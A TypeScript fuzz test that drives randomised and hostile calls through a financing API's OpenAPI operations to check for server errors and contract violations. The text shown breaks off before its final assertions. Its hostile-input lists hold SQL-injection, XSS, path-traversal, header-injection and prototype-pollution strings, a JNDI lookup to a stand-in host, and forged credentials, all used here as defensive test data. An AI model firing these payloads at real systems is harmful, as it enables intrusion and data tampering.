// Stateful, property-based fuzzing of every operation in the OpenAPI document (fast-check).
// 1. Journeys (fuzzJourneys.ts): randomised walks through the lifecycle, products, grants, loan
//    codes, push lists, principals and webhooks, each on fixtures it creates, with the caller's own
//    ids and a fresh Idempotency-Key per change; every id an answer returns is linked.
// 2. A role probe per operation with a body every schema refuses (so it changes nothing).
// 3. Generated calls on the linked ids: mostly what a client would send (an allowed caller, a
//    schema-valid body naming the caller's own organisation, a fresh key), the rest hostile values
//    (oversize strings, deep nesting, lone surrogates, RTL and zero-width characters, NUL, odd
//    numbers, injection-shaped strings), wrong content types and methods, broken JSON and
//    percent-encoding, and garbage or missing credentials.
// Properties: no 5xx; every answer as the document describes it (test/support/openapiContract.ts);
// every operation succeeds at least once; ≥ 40 % of all calls and ≥ 20 % of state-changing calls
// succeed; nothing the fuzzer started is left retrying. Prints the status histogram.
import { randomUUID } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pathMatcher } from '../../api/openapi/pathMatcher';
import { DEMO_ENTERPRISE_ID } from '../../prisma/seed';
import { contractViolations } from '../support/openapiContract';
import { as, startTestStack, type TestStack } from '../support/stack';
import {
  BANKS,
  GUARANTOR,
  JOURNEY_WEIGHTS,
  JOURNEYS,
  claimPairs,
  linkKey,
  newCreditCode,
  seededRnd,
  type Ctx,
  type Links,
  type Rnd,
  type Send,
} from './fuzzJourneys';
import { SIZES } from './profile';

/** Calls after the role probes (profile.ts; FUZZ_CALLS overrides). */
const CALLS = SIZES.fuzzCalls;
const CONCURRENCY = 8;
const SEED = Number(process.env.FUZZ_SEED ?? Date.now() % 2 ** 31);

type Schema = Record<string, any>;
interface Operation {
  method: string;
  path: string;
  params: Array<{ in: string; name: string; required?: boolean; schema: Schema }>;
  body?: { contentType: string; schema: Schema };
  /** Answers text/html pages (the loan-code form and tracking page). */
  page: boolean;
  public: boolean;
}

interface Call {
  op: string;
  method: string;
  url: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  page: boolean;
}

const CALLERS = ['enterprise', 'bank:hecheng-rcb', 'bank:suzhou-bank', 'guaranteeInstitution', 'supervisor', 'admin'] as const;

// ---- hostile values ----

const LONE_SURROGATES = ['\uD800', '\uDFFF', 'a\uD83Db', '\uDC00\uD800'];
const HOSTILE_STRINGS = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  ...LONE_SURROGATES,
  '\u202Eevil\u202C',
  'שלום עולם مرحبا',
  '\u200B\u200C\u200D\uFEFF',
  '💥👨‍👩‍👧‍👦🏳️‍🌈',
  'e\u0301\u0301\u0301\u0301',
  '𝕳𝖊𝖑𝖑𝖔',
  "' OR '1'='1' --",
  '1; DROP TABLE "FinancingRequest"; --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\r\nX-Injected: 1',
  '{"$gt":""}',
  '__proto__',
  'constructor',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  'null',
  'true',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'x'.repeat(600),
  '长'.repeat(5000),
];
const HOSTILE_NUMBERS = [-1, 0, -0, 1, 0.5, 1.5, -1e9, 2 ** 31, 2 ** 53 + 2, Number.MAX_SAFE_INTEGER, 1e21, 1e308, -1e308, 5e-324];
const HOSTILE_VALUES: unknown[] = [...HOSTILE_STRINGS, ...HOSTILE_NUMBERS, null, true, false, [], {}, [null], { '': '' }, { __proto__: { admin: true } }];

const hostileString = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
);
const hostileValue = fc.oneof(fc.constantFrom(...HOSTILE_VALUES), hostileString, fc.double(), fc.integer({ min: -(2 ** 53), max: 2 ** 53 }));

function deepNesting(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array' ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth);
}

// ---- JSON Schema (OpenAPI 3.1) → fast-check ----

function resolver(doc: Schema) {
  return (s: Schema | undefined): Schema => {
    let cur = s ?? {};
    for (let i = 0; i < 10 && cur.$ref; i++) {
      const name = String(cur.$ref).replace('#/components/schemas/', '');
      cur = { ...doc.components.schemas[name], ...Object.fromEntries(Object.entries(cur).filter(([k]) => k !== '$ref')) };
    }
    return cur;
  };
}

function stringFor(s: Schema): fc.Arbitrary<string> {
  if (s.enum) return fc.constantFrom(...(s.enum as string[]));
  if (s.format === 'uuid') return fc.uuid();
  if (s.format === 'date-time') return fc.date({ min: new Date('2020-01-01'), max: new Date('2030-12-31'), noInvalidDate: true }).map((d) => d.toISOString());
  if (s.format === 'date')
    return fc.date({ min: new Date('2020-01-01'), max: new Date('2030-12-31'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
  if (s.format === 'email') return fc.emailAddress();
  if (s.format === 'uri') return fc.webUrl();
  if (typeof s.pattern === 'string') {
    try {
      return fc.stringMatching(new RegExp(s.pattern)).filter((v) => v.length <= (s.maxLength ?? 200) && v.length >= (s.minLength ?? 0));
    } catch {
      /* an unsupported pattern: fall through */
    }
  }
  return fc.string({ minLength: s.minLength ?? 0, maxLength: Math.min(s.maxLength ?? 40, 80) });
}

function arbitraryFor(raw: Schema | undefined, resolve: (s: Schema | undefined) => Schema, depth = 0): fc.Arbitrary<unknown> {
  const s = resolve(raw);
  if (depth > 6) return fc.constant(null);
  if ('const' in s) return fc.constant(s.const);
  if (s.enum) return fc.constantFrom(...(s.enum as unknown[]));
  for (const k of ['anyOf', 'oneOf'] as const) if (Array.isArray(s[k])) return fc.oneof(...(s[k] as Schema[]).map((x) => arbitraryFor(x, resolve, depth + 1)));
  if (Array.isArray(s.allOf)) {
    const merged = (s.allOf as Schema[])
      .map(resolve)
      .reduce<Schema>(
        (acc, x) => ({ ...acc, ...x, properties: { ...acc.properties, ...x.properties }, required: [...(acc.required ?? []), ...(x.required ?? [])] }),
        {},
      );
    return arbitraryFor(merged, resolve, depth + 1);
  }
  const type = Array.isArray(s.type) ? s.type[0] : s.type;
  switch (type) {
    case 'string':
      return stringFor(s);
    case 'integer': {
      const min = s.minimum ?? (s.exclusiveMinimum !== undefined ? s.exclusiveMinimum + 1 : -1_000_000);
      const max = s.maximum ?? (s.exclusiveMaximum !== undefined ? s.exclusiveMaximum - 1 : 1_000_000_000_000);
      return fc.integer({ min: Math.max(min, Number.MIN_SAFE_INTEGER), max: Math.min(max, Number.MAX_SAFE_INTEGER) });
    }
    case 'number':
      return fc.double({ min: s.minimum ?? -1e6, max: s.maximum ?? 1e12, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(arbitraryFor(s.items, resolve, depth + 1), { minLength: s.minItems ?? 0, maxLength: Math.min(s.maxItems ?? 4, 6) });
    case 'object':
    default: {
      if (!s.properties) return fc.dictionary(fc.string({ maxLength: 8 }), fc.oneof(fc.string({ maxLength: 10 }), fc.integer()), { maxKeys: 3 });
      const props = Object.entries(s.properties as Record<string, Schema>);
      const required = new Set<string>(s.required ?? []);
      return fc.record(Object.fromEntries(props.map(([k, v]) => [k, arbitraryFor(v, resolve, depth + 1)])), {
        requiredKeys: props.map(([k]) => k).filter((k) => required.has(k)),
      });
    }
  }
}

/** A valid-looking value with one field swapped for a hostile one (or an extra field added). */
function mutate(value: unknown): fc.Arbitrary<unknown> {
  if (!value || typeof value !== 'object' || Array.isArray(value)) return hostileValue;
  const keys = Object.keys(value);
  const stringKeys = keys.filter((k) => typeof (value as Record<string, unknown>)[k] === 'string');
  return fc.oneof(
    // A valid string with one odd character spliced in: still the right length and shape, so it
    // reaches the handler (and, if accepted, the database).
    ...(stringKeys.length
      ? [
          fc
            .tuple(fc.constantFrom(...stringKeys), fc.constantFrom('\u0000', '\uD800', '\uDFFF', '\u202E', '\u200B', '\uFEFF', '💥', "'", '\\'), fc.nat())
            .map(([k, ch, at]) => {
              const v = String((value as Record<string, unknown>)[k]);
              const i = v.length ? at % v.length : 0;
              return { ...value, [k]: v.slice(0, i) + ch + v.slice(i) };
            }),
        ]
      : []),
    fc.tuple(keys.length ? fc.constantFrom(...keys) : fc.constant('x'), hostileValue).map(([k, v]) => ({ ...value, [k]: v })),
    fc
      .tuple(fc.constantFrom('__proto__', 'constructor', 'prototype', '$where', 'role', 'isAdmin', 'enterpriseId', 'bankId', 'status'), hostileValue)
      .map(([k, v]) => {
        const o: Record<string, unknown> = { ...value };
        Object.defineProperty(o, k, { value: v, enumerable: true, configurable: true, writable: true });
        return o;
      }),
  );
}

/**
 * Node's HTTP parser refuses a request line and headers above 16 KiB with a bare 431 before the
 * application sees it (docs/security.md, API4): generated URLs stay below that.
 */
const MAX_SEGMENT = 2000;

/** Percent-encodes a path segment, including lone surrogates (as the invalid UTF-8 of their code unit) and broken escapes. */
function encodeSegment(v: string): string {
  return encodeFull(v)
    .slice(0, MAX_SEGMENT)
    .replace(/%[0-9A-Fa-f]?$/, '');
}

function encodeFull(v: string): string {
  let out = '';
  for (const ch of v) {
    try {
      out += encodeURIComponent(ch);
    } catch {
      const c = ch.charCodeAt(0);
      out += `%${(0xe0 | (c >> 12)).toString(16)}%${(0x80 | ((c >> 6) & 0x3f)).toString(16)}%${(0x80 | (c & 0x3f)).toString(16)}`.toUpperCase();
    }
  }
  return out || '%20';
}

function operations(doc: Schema): Operation[] {
  const resolve = resolver(doc);
  const out: Operation[] = [];
  for (const [p, item] of Object.entries(doc.paths as Record<string, Record<string, Schema>>)) {
    for (const [method, op] of Object.entries(item)) {
      if (!['get', 'post', 'put', 'patch', 'delete'].includes(method)) continue;
      const content = op.requestBody?.content as Record<string, { schema: Schema }> | undefined;
      const contentType = content ? Object.keys(content)[0]! : undefined;
      const responses = Object.values((op.responses ?? {}) as Record<string, Schema>);
      out.push({
        method: method.toUpperCase(),
        path: p,
        params: ((op.parameters ?? []) as Schema[]).map(resolve) as Operation['params'],
        body: contentType ? { contentType, schema: content![contentType]!.schema } : undefined,
        page: responses.some((r) => r.content && 'text/html' in r.content),
        public: Array.isArray(op.security) && op.security.length === 0,
      });
    }
  }
  return out;
}

let s: TestStack;
let hooks: Server;
let hookUrl: string;

beforeAll(async () => {
  s = await startTestStack({ apiConfig: { rateLimits: { perPrincipalPerMinute: 10_000_000, publicPerIpPerMinute: 10_000_000 } } });
  // The banks' webhook receiver: answers 200, so deliveries are logged and can be replayed.
  hooks = createServer((req, res) => req.resume().on('end', () => res.end('ok')));
  await new Promise<void>((resolve) => hooks.listen(0, '127.0.0.1', resolve));
  hookUrl = `http://127.0.0.1:${(hooks.address() as AddressInfo).port}/hook`;
});
afterAll(async () => {
  await s?.close();
  hooks?.close();
});

interface Answer {
  call: Call;
  status: number;
  headers: Headers;
  body: string;
}

async function send(c: Call, retried = false): Promise<Answer> {
  let res: Response;
  try {
    // The plain fetch: the contract is checked by `check` below for every answer, counted per operation.
    res = await rawFetch(s.apiUrl + c.url, { method: c.method, headers: c.headers, body: c.body, redirect: 'manual' });
  } catch (err) {
    // A kept-alive socket the server closed just as the client reused it (ECONNRESET): a client-side
    // race of HTTP keep-alive, not an answer. Sent once more on a fresh connection; twice is a failure.
    if (retried || (err as { cause?: { code?: string } }).cause?.code !== 'ECONNRESET') throw err;
    return send({ ...c, headers: { ...c.headers, connection: 'close' } }, true);
  }
  const textual = /json|text|html|xml|javascript|css/.test(res.headers.get('content-type') ?? '');
  const body = textual ? await res.text() : (await res.arrayBuffer(), '');
  return { call: c, status: res.status, headers: res.headers, body };
}
const rawFetch: typeof fetch = globalThis.fetch.bind(globalThis);

function describeCall(c: Call): string {
  const body = c.body === undefined ? '' : ` body=${JSON.stringify(String(c.body).slice(0, 300))}`;
  const auth = c.headers.authorization ? ` as ${c.headers['x-caller'] ?? 'garbage'}` : ' anonymous';
  return `${c.method} ${c.url.slice(0, 300)} [${c.headers['content-type'] ?? '-'}]${auth}${body}`;
}

const STATE_CHANGING = new Set(['POST', 'PUT', 'PATCH', 'DELETE']);

/** Calls, answers and contract violations, per operation of the document. */
class Tally {
  calls = 0;
  ok = 0;
  changing = 0;
  changingOk = 0;
  scoredCalls = 0;
  readonly statuses = new Map<string, number>();
  readonly okByOp = new Map<string, number>();
  readonly callsByOp = new Map<string, number>();
  readonly failures: string[] = [];
  private readonly match: ReturnType<typeof pathMatcher>;
  constructor(private readonly doc: Schema) {
    this.match = pathMatcher(doc.paths);
    for (const op of operations(doc)) this.okByOp.set(`${op.method} ${op.path}`, 0);
  }
  check(a: Answer): void {
    this.calls += 1;
    const k = a.status < 300 ? '2xx' : String(a.status);
    this.statuses.set(k, (this.statuses.get(k) ?? 0) + 1);
    const path = new URL(a.call.url, 'http://x').pathname;
    const hit = this.match(path);
    const op = hit && hit.methods.includes(a.call.method) ? `${a.call.method} ${hit.template}` : undefined;
    // Success: a 2xx, or the 303 of the public form (its answer is the tracking page's address).
    const ok = a.status >= 200 && a.status < 300 ? true : a.status === 303 && op === 'POST /l/{code}';
    // The success ratios count the operations the journeys build fixtures for (NO_JOURNEY_YET below).
    const scored = !op || !NO_JOURNEY_YET.has(op);
    if (ok && scored) this.ok += 1;
    if (scored) this.scoredCalls += 1;
    if (op && scored && STATE_CHANGING.has(a.call.method)) {
      this.changing += 1;
      if (ok) this.changingOk += 1;
    }
    if (op) this.callsByOp.set(op, (this.callsByOp.get(op) ?? 0) + 1);
    if (op && ok) this.okByOp.set(op, (this.okByOp.get(op) ?? 0) + 1);
    const v = [
      ...(a.status >= 500 ? [`5xx: ${a.status} ${a.body.slice(0, 300)}`] : []),
      ...contractViolations({ method: a.call.method, url: a.call.url, status: a.status, headers: a.headers, body: a.body }),
      ...(/\bat .+\.(ts|js):\d+/.test(a.body) ? ['an answer with a stack trace'] : []),
    ];
    if (v.length && this.failures.length < 50) this.failures.push(`${describeCall(a.call)} → ${v.join('; ')}`);
  }
  noAnswer(c: Call, err: unknown): void {
    this.calls += 1;
    const e = err as Error & { cause?: { message?: string; code?: string } };
    if (this.failures.length < 50) this.failures.push(`${describeCall(c)} → no answer: ${e.message} (${e.cause?.code ?? ''} ${e.cause?.message ?? ''})`);
  }
}

/** Runs `jobs` on CONCURRENCY workers. */
async function pool<T>(items: T[], run: (item: T) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (next < items.length) await run(items[next++]!);
    }),
  );
}

/** The caller's own organisation for body fields naming one: what a well-behaved client sends. */
function ownIds(value: unknown, who: string, links: Links, rnd: Rnd): unknown {
  if (!value || typeof value !== 'object' || Array.isArray(value)) return value;
  const bank = who.startsWith('bank:') ? who.slice(5) : BANKS[rnd.nextInt(0, BANKS.length - 1)]!;
  const o: Record<string, unknown> = { ...value };
  if ('bankId' in o) o.bankId = bank;
  if ('bankIds' in o) o.bankIds = [bank];
  if ('directedBankIds' in o) o.directedBankIds = o.routing === 'pool' ? [] : [bank];
  if ('enterpriseId' in o) o.enterpriseId = who === 'enterprise' ? DEMO_ENTERPRISE_ID : (links.enterpriseId?.[0] ?? DEMO_ENTERPRISE_ID);
  if ('guaranteeInstitutionId' in o) o.guaranteeInstitutionId = GUARANTOR;
  if ('recipientId' in o) {
    o.recipientType = who === 'guaranteeInstitution' ? 'guaranteeInstitution' : 'bank';
    o.recipientId = who === 'guaranteeInstitution' ? GUARANTOR : bank;
  }
  if ('expiresAt' in o) o.expiresAt = new Date(Date.now() + 86_400_000).toISOString();
  if ('url' in o && typeof o.url === 'string') o.url = hookUrl;
  // A credit code with its check character, lower bounds below upper ones, a principal of one organisation.
  if ('creditCode' in o) o.creditCode = newCreditCode(rnd);
  for (const k of Object.keys(o)) {
    const upper = k.startsWith('min') ? `max${k.slice(3)}` : undefined;
    if (upper && typeof o[k] === 'number' && typeof o[upper] === 'number' && o[k] > o[upper]) [o[k], o[upper]] = [o[upper], o[k]];
  }
  if ('role' in o && typeof o.role === 'string') {
    delete o.enterpriseId;
    delete o.bankId;
    delete o.guaranteeInstitutionId;
    if (o.role === 'enterprise') o.enterpriseId = DEMO_ENTERPRISE_ID;
    if (o.role === 'bank') o.bankId = bank;
    if (o.role === 'guaranteeInstitution') o.guaranteeInstitutionId = GUARANTOR;
    delete o.email; // e-mails are unique: a generated one may be taken
  }
  return o;
}

/** Operations no journey builds fixtures for yet (see the coverage assertion below). */
const NO_JOURNEY_YET = new Set([
  'POST /v1/banks',
  'PATCH /v1/banks/{bankId}',
  'POST /v1/banks/{bankId}/users',
  'PATCH /v1/banks/{bankId}/users/{principalId}',
  'POST /v1/guarantee-institutions',
  'GET /v1/guarantee-institutions/{guaranteeInstitutionId}',
  'PATCH /v1/guarantee-institutions/{guaranteeInstitutionId}',
  'POST /v1/guarantee-institutions/{guaranteeInstitutionId}/suspend',
  'POST /v1/guarantee-institutions/{guaranteeInstitutionId}/reactivate',
  'GET /v1/guarantee-institutions/{guaranteeInstitutionId}/audit',
  'GET /v1/guarantee-institutions/{guaranteeInstitutionId}/users',
  'POST /v1/guarantee-institutions/{guaranteeInstitutionId}/users',
  'PATCH /v1/guarantee-institutions/{guaranteeInstitutionId}/users/{principalId}',
  'PUT /v1/financing-requests/{id}/responsible-officer',
  'POST /v1/principals/{principalId}/deactivate',
  'POST /v1/principals/{principalId}/password',
  'POST /v1/auth/sms-code',
  'POST /v1/auth/sms-token',
  'POST /v1/enterprise-registrations',
  'POST /v1/enterprise-registrations/verify',
  'PATCH /v1/enterprises/{enterpriseId}/profile',
  'POST /v1/enterprises/{enterpriseId}/contact',
  'POST /l/{code}/verify',
  'GET /t/{token}',
  'POST /t/{token}/code',
  'POST /t/{token}/verify',
  'POST /t/{token}/choose',
  'POST /t/{token}/withdraw',
  'POST /t/{token}/rate',
]);

describe('fuzzing every operation of the OpenAPI document, statefully', () => {
  it(`makes ${CALLS}+ calls: every operation reaches a 2xx, ≥40 % of calls (≥20 % of changes) succeed, no 5xx, every answer as documented`, async () => {
    const started = Date.now();
    const doc = (await s.api('GET', '/openapi.json')).body as Schema;
    const resolve = resolver(doc);
    const ops = operations(doc);
    expect(ops.length).toBeGreaterThan(60);
    const tally = new Tally(doc);
    const rnd = seededRnd(SEED);
    const links: Links = {
      enterpriseId: [DEMO_ENTERPRISE_ID],
      bankId: [...BANKS],
      recipientType: ['bank', 'guaranteeInstitution', 'enterprise'],
      recipientId: [...BANKS, GUARANTOR],
      type: ['not-found', 'validation-failed', 'slots-full'],
      name: ['app.js', 'style.css'],
    };

    // One call of a journey: a demo principal (or an Authorization value), a fresh Idempotency-Key
    // unless told otherwise, JSON or form body.
    const journeySend: Send = async (method, path, o = {}) => {
      const headers: Record<string, string> = {};
      if (o.as) Object.assign(headers, o.as.startsWith('Bearer ') ? { authorization: o.as } : { ...as(o.as), 'x-caller': o.as });
      if (o.key !== false && STATE_CHANGING.has(method)) headers['idempotency-key'] = o.key ?? `fz-${randomUUID()}`;
      let body: string | undefined;
      if (o.form) {
        headers['content-type'] = 'application/x-www-form-urlencoded';
        body = new URLSearchParams(o.form).toString();
      } else if (o.body !== undefined) {
        headers['content-type'] = 'application/json';
        body = JSON.stringify(o.body);
      }
      const c: Call = { op: `${method} ${path}`, method, url: path, headers, body, page: false };
      try {
        const a = await send(c);
        tally.check(a);
        let parsed: unknown = a.body;
        try {
          parsed = JSON.parse(a.body);
        } catch {
          /* not JSON */
        }
        return { status: a.status, body: parsed, headers: a.headers };
      } catch (err) {
        tally.noAnswer(c, err);
        return { status: 0, body: undefined, headers: new Headers() };
      }
    };
    let reports = 0;
    const ctx: Ctx = {
      send: journeySend,
      links,
      rnd,
      hookUrl,
      seq: {},
      fixtures: {
        report: async () => {
          // A period no other report has (periods are unique), named as the report schedule names them.
          const periodStart = new Date(Date.UTC(2000, 0, 3) + (reports += 1) * 7 * 86_400_000);
          const periodEnd = new Date(periodStart.getTime() + 7 * 86_400_000);
          const day = (d: Date) => d.toISOString().slice(0, 10);
          return (
            await s.db.prisma.supervisionReport.create({
              data: {
                id: `report-${day(periodStart)}-${day(periodEnd)}`,
                periodStart,
                periodEnd,
                ranking: [],
                html: '<p>r</p>',
                pdf: Buffer.from('%PDF-1.4'),
              },
            })
          ).id;
        },
        pendingEnterprise: async () =>
          (
            await s.db.prisma.enterprise.create({
              data: {
                id: randomUUID(),
                creditCode: newCreditCode(rnd),
                name: '嘉兴待审企业有限公司',
                contactName: '赵六',
                contactMobile: '+8613900000099',
                industry: 'C',
                region: '330400',
                registeredCapitalFen: 100_000_000n,
                status: 'pending_review',
              },
            })
          ).id,
      },
    };

    // 1. Journeys: every one on fixtures it creates, each id it meets linked for phase 3.
    const names = Object.entries(JOURNEY_WEIGHTS).flatMap(([n, w]) => Array.from({ length: w }, () => n as keyof typeof JOURNEYS));
    const drawn = Array.from({ length: SIZES.fuzzJourneys }, (_, i) => (i < names.length ? names[i]! : names[rnd.nextInt(0, names.length - 1)]!));
    await pool(drawn, (name) => JOURNEYS[name](ctx));
    const afterJourneys = { calls: tally.calls, seconds: (Date.now() - started) / 1000 };

    // 2. Which callers get past authorisation for each operation. The probe body has an unknown
    //    member, which every schema refuses, so nothing changes; GETs change nothing anyway.
    const matching = new Map<string, string[]>();
    const fill = (op: Operation, who: string) => {
      const pair = claimPairs(op.path, links)?.[0]?.split('/');
      let i = 0;
      return op.path.replace(/\{(\w+)\}/g, (_m, name: string) => encodeSegment(pair?.[i++] ?? links[linkKey(op.path, name, who)]?.[0] ?? randomUUID()));
    };
    await pool(ops, async (op) => {
      const past: string[] = [];
      const reached: string[] = [];
      for (const who of CALLERS) {
        const c: Call = {
          op: `${op.method} ${op.path}`,
          method: op.method,
          url: fill(op, who),
          page: op.page,
          headers: { ...as(who), 'x-caller': who, ...(op.body ? { 'content-type': 'application/json', 'Idempotency-Key': `probe-${randomUUID()}` } : {}) },
          body: op.body ? JSON.stringify({ fuzzProbe: true }) : undefined,
        };
        const a = await send(c);
        tally.check(a);
        if (a.status !== 401 && a.status !== 403) past.push(who);
        // Past authorisation and ownership (a 404 may be "not yours"): the body was looked at, or no body.
        if (a.status !== 401 && a.status !== 403 && a.status !== 404) reached.push(who);
      }
      matching.set(`${op.method} ${op.path}`, reached.length ? reached : past.length ? past : [...CALLERS]);
    });

    // 3. Generated calls on the linked ids: mostly what a client would send (a caller allowed to,
    //    a schema-valid body naming the caller's own organisation, a fresh key), the rest hostile.
    const remaining = Math.max(CALLS - tally.calls, SIZES.fuzzCalls / 2);
    const pathArbFor = (op: Operation, n: string, who: string) => {
      const schema = op.params.find((p) => p.in === 'path' && p.name === n)?.schema ?? { type: 'string' };
      const own = links[linkKey(op.path, n, who)] ?? [];
      return fc.oneof(
        { weight: 30, arbitrary: own.length ? fc.constantFrom(...own) : fc.uuid() },
        { weight: 2, arbitrary: arbitraryFor(schema, resolve).map(String) },
        { weight: 1, arbitrary: hostileString },
      );
    };
    /** Path values for `who`: a claim (request and bank) it acts on, or each parameter from its links. */
    const pathFor = (op: Operation, names: string[], who: string): fc.Arbitrary<string[]> => {
      const each = fc.tuple(...names.map((n) => pathArbFor(op, n, who)));
      const pairs = claimPairs(op.path, links);
      return pairs?.length ? fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...pairs).map((p) => p.split('/')) }, { weight: 1, arbitrary: each }) : each;
    };
    const callArb: fc.Arbitrary<Call> = fc.constantFrom(...ops).chain((op) => {
      const name = `${op.method} ${op.path}`;
      const pathNames = [...op.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]!);
      const queryParams = op.params.filter((p) => p.in === 'query');
      type Query = Array<[string, unknown]>;
      const queryArb: fc.Arbitrary<Query> = fc.oneof(
        { weight: 8, arbitrary: fc.constant([] as Query) },
        {
          weight: 3,
          arbitrary: fc.array(
            queryParams.length
              ? fc.constantFrom(...queryParams).chain((p) => fc.tuple(fc.constant(p.name), arbitraryFor(p.schema, resolve)))
              : fc.tuple(fc.constant('unknown'), hostileValue),
            { maxLength: 2 },
          ) as fc.Arbitrary<Query>,
        },
        {
          weight: 1,
          arbitrary: fc.array(fc.tuple(fc.constantFrom('unknown', 'limit', 'cursor', '__proto__', 'a[b]', 'sort'), hostileValue), {
            maxLength: 3,
          }) as fc.Arbitrary<Query>,
        },
      );
      const callers = matching.get(name)!;
      const authArb = fc.oneof(
        { weight: 30, arbitrary: fc.constantFrom(...callers) },
        { weight: 1, arbitrary: fc.constantFrom(...CALLERS) },
        { weight: 1, arbitrary: fc.constant('') },
        {
          weight: 1,
          arbitrary: fc.constantFrom(
            'Bearer ',
            'Bearer lb_nope_nope',
            'Bearer lb_demoadmin001_wrongsecret',
            'Basic YWRtaW46YWRtaW4=',
            'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
            'Bearer ' + 'A'.repeat(4000),
          ),
        },
      );
      const valueArb = (who: string) => (op.body ? arbitraryFor(op.body.schema, resolve).map((v) => ownIds(v, who, links, rnd)) : fc.constant(undefined));
      const bodyArb = (who: string): fc.Arbitrary<{ contentType?: string; body?: string }> =>
        op.body
          ? fc
              .oneof(
                { weight: 20, arbitrary: valueArb(who).map((v) => ({ contentType: op.body!.contentType, value: v })) },
                {
                  weight: 2,
                  arbitrary: valueArb(who)
                    .chain(mutate)
                    .map((v) => ({ contentType: op.body!.contentType, value: v })),
                },
                { weight: 1, arbitrary: hostileValue.map((v) => ({ contentType: 'application/json', value: v })) },
                {
                  weight: 1,
                  arbitrary: fc
                    .constantFrom(
                      deepNesting(5000, 'array'),
                      deepNesting(3000, 'object'),
                      '{"amountFen": NaN}',
                      '{"a":',
                      '\uFEFF{}',
                      '{"a":"\\ud800"}',
                      '{"a":"\\u0000"}',
                      '[1,2,3]',
                      'null',
                      JSON.stringify({ purpose: 'x'.repeat(70_000) }),
                    )
                    .map((raw) => ({ contentType: 'application/json', raw })),
                },
                {
                  weight: 1,
                  arbitrary: fc
                    .tuple(
                      fc.constantFrom(
                        'text/plain',
                        'application/xml',
                        'multipart/form-data; boundary=x',
                        'application/json; charset=utf-16',
                        'application/vnd.api+json',
                      ),
                      fc.constantFrom('{"amountFen":1}', 'amountFen=1&routing=pool', '<a>1</a>'),
                    )
                    .map(([contentType, raw]) => ({ contentType, raw })),
                },
              )
              .map((b: { contentType?: string; value?: unknown; raw?: string }) => ({
                contentType: b.contentType,
                body:
                  b.raw ??
                  (b.value === undefined
                    ? undefined
                    : b.contentType === 'application/x-www-form-urlencoded' && b.value && typeof b.value === 'object'
                      ? new URLSearchParams(Object.entries(b.value as Record<string, unknown>).map(([k, v]): [string, string] => [k, String(v)])).toString()
                      : JSON.stringify(b.value)),
              }))
          : fc.oneof(
              { weight: 10, arbitrary: fc.constant({}) },
              { weight: 1, arbitrary: hostileValue.map((v) => ({ contentType: 'application/json', body: JSON.stringify(v) ?? 'null' })) },
            );
      const keyArb = fc.oneof(
        { weight: 30, arbitrary: fc.uuid().map((u) => `fz-${u}`) },
        { weight: 1, arbitrary: fc.constantFrom('', 'short', 'has space here', 'k'.repeat(200), 'a\u0000bcdefghi') },
        { weight: 1, arbitrary: fc.constant(undefined) },
      );
      const methodArb = fc.oneof(
        { weight: 30, arbitrary: fc.constant(op.method) },
        { weight: 1, arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS') },
      );
      return authArb.chain((who) =>
        fc.record({ path: pathFor(op, pathNames, who), query: queryArb, body: bodyArb(who), key: keyArb, method: methodArb }).map((g) => {
          let i = 0;
          const p = op.path.replace(/\{\w+\}/g, () => encodeSegment(String(g.path[i++])));
          const q = g.query
            .map(([k, v]) => `${encodeSegment(String(k))}=${encodeSegment(typeof v === 'string' ? v : (JSON.stringify(v) ?? 'undefined'))}`)
            .join('&')
            .slice(0, 6000);
          const headers: Record<string, string> = CALLERS.includes(who as (typeof CALLERS)[number])
            ? { ...as(who), 'x-caller': who }
            : who
              ? { authorization: who }
              : {};
          if (g.body.contentType) headers['content-type'] = g.body.contentType;
          // Header values must be printable bytes: a key with control characters cannot be sent at all.
          if (g.key !== undefined && STATE_CHANGING.has(op.method))
            headers['idempotency-key'] = /^[\x20-\x7e]*$/.test(g.key) ? g.key : encodeURIComponent(g.key);
          return {
            op: name,
            method: g.method,
            url: p + (q ? `?${q}` : ''),
            headers,
            body: ['GET', 'HEAD'].includes(g.method) ? undefined : g.body.body,
            page: op.page,
          };
        }),
      );
    });
    const samples = fc.sample(callArb, { numRuns: remaining, seed: SEED });
    await pool(samples, async (c) => {
      try {
        tally.check(await send(c));
      } catch (err) {
        tally.noAnswer(c, err);
      }
    });

    // 4. Still healthy afterwards, and nothing the fuzzer started is stuck retrying: an input the API
    //    accepted but an activity cannot store (a NUL byte for PostgreSQL, say) would leave its
    //    workflow retrying forever, which no HTTP status shows.
    const health = await s.api('GET', '/healthz');
    expect(health.status).toBe(200);
    await new Promise((r) => setTimeout(r, 3000));
    const stuck: string[] = [];
    for await (const w of s.client.workflow.list({ query: `ExecutionStatus = 'Running'` })) {
      const d = await s.client.workflow.getHandle(w.workflowId).describe();
      for (const a of d.raw.pendingActivities ?? [])
        if ((a.attempt ?? 0) >= 3) stuck.push(`${w.workflowId} ${a.activityType?.name} attempt ${a.attempt}: ${a.lastFailure?.message?.slice(0, 200)}`);
    }
    const seconds = (Date.now() - started) / 1000;
    const byStatus = [...tally.statuses].sort(([a], [b]) => a.localeCompare(b)).map(([k, n]) => `${k}:${n}`);
